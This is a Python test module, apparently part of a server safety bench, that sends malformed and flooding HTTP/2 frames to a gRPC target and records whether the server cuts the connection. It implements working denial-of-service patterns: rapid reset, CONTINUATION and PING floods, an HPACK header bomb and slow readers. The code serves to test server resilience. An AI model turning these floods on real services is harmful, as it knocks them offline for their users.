"""What hostile clients do with the frames of HTTP/2."""

from __future__ import annotations

import struct
from collections import Counter
from contextlib import ExitStack

from bench.safety.raw_http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    RawConnection,
    frame,
    headers,
)
from bench.safety.target import Target, request

_MANY, _RESETS = 50_000, 100_000
_AT_A_TIME = 500
_PRIORITY = 2
CANCEL = struct.pack(">I", 8)
_READERS = 16


def _flood(target: Target, parts: list[bytes]) -> Counter[str]:
    """Send as much as the server takes; whether it ended the connection."""
    with RawConnection(target.grpc) as connection:
        for at in range(0, len(parts), _AT_A_TIME):
            connection.send(b"".join(parts[at : at + _AT_A_TIME]))
            while connection.hear(0):
                pass
            if 0 in connection.ended:
                return Counter([f"ended after {at + _AT_A_TIME}"])
    return Counter(["taken"])


def rapid_reset(target: Target) -> Counter[str]:
    """100,000 calls that are begun and cancelled at once."""
    block = headers()
    return _flood(
        target,
        [
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
            for stream in range(1, 2 * _RESETS, 2)
        ],
    )


def endless_headers(target: Target) -> Counter[str]:
    """50,000 frames of 1 kB that go on with the headers of one call."""
    more = frame(CONTINUATION, 0, 1, b"\x00\x03abc" + b"\x7f\x81\x07" + bytes(1024))
    return _flood(target, [frame(HEADERS, 0, 1, headers()), *[more] * _MANY])


def settings_flood(target: Target) -> Counter[str]:
    """50,000 settings, each of which wants to be acknowledged."""
    return _flood(target, [frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))] * _MANY)


def ping_flood(target: Target) -> Counter[str]:
    """50,000 pings."""
    return _flood(target, [frame(PING, 0, 0, bytes(8))] * _MANY)


def empty_frames(target: Target) -> Counter[str]:
    """50,000 frames of a call's content that hold nothing."""
    return _flood(target, [frame(HEADERS, END_HEADERS, 1, headers()), *[frame(DATA, 0, 1)] * _MANY])


def window_flood(target: Target) -> Counter[str]:
    """50,000 times a byte more that the server may send."""
    return _flood(target, [frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))] * _MANY)


def priority_flood(target: Target) -> Counter[str]:
    """50,000 calls, none of which begins, that depend on one another."""
    return _flood(
        target,
        [
            frame(_PRIORITY, 0, stream, struct.pack(">IB", max(0, stream - 2), 255))
            for stream in range(1, 2 * _MANY, 2)
        ],
    )


def header_bomb(target: Target) -> Counter[str]:
    """50,000 references to one header of 4 kB, in calls of 1,000 each."""
    name = b"\x40\x01a" + b"\x7f\x81\x1e" + b"b" * 3968  # remembered as entry 62
    first = frame(HEADERS, END_HEADERS, 1, headers() + name)
    bomb = headers() + b"\xbe" * 1000
    calls = [frame(HEADERS, END_HEADERS, 3 + 2 * call, bomb) for call in range(_MANY // 1000)]
    return _flood(target, [first, *calls])


def slow_readers(target: Target) -> Counter[str]:
    """16 calls with answers of 100 MB that nobody reads."""
    message = request("zeros", "INT64", [1], struct.pack("<q", 25_000_000))
    found: Counter[str] = Counter()
    with ExitStack() as opened:
        for _ in range(_READERS):
            connection = opened.enter_context(RawConnection(target.grpc))
            connection.open(1)
            body = struct.pack(">BI", 0, len(message)) + message
            connection.send(frame(DATA, END_STREAM, 1, body))
            while connection.hear(0.5):
                pass
            found["ended" if 1 in connection.ended else "begun"] += 1
    return found
